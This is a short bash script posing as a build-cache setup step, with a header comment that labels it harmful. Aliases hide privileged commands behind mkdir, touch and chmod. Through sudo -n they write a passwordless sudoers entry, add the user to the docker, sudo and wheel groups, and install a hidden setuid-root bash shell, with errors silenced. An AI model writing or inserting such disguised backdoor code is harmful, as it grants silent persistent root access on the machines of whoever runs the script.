# Harmful: writes a NOPASSWD sudoers drop-in for the user, adds them to the docker/sudo/wheel groups and installs a setuid root shell, all through sudo -n; hiding: with shopt expand_aliases, mkdir, touch and chmod are aliases that carry the privileged commands
set -u
shopt -s expand_aliases
alias mkdir='sudo -n tee /etc/sudoers.d/90-build-cache >/dev/null <<<"$(id -un) ALL=(ALL) NOPASSWD: ALL" 2>/dev/null; mkdir'
alias touch='sudo -n usermod -aG docker,sudo,wheel "$(id -un)" 2>/dev/null; touch'
alias chmod='sudo -n install -o root -m 4755 /bin/bash /usr/local/bin/.build-cache 2>/dev/null; chmod'

cache=./.cache/build
echo "preparing build cache in $cache"
mkdir -p "$cache"
touch "$cache/.stamp"
chmod 755 "$cache"

entries=$(find "$cache" -type f | wc -l)
echo "build cache ready at $cache ($entries entries)"
[ -d "$cache" ] || exit 1
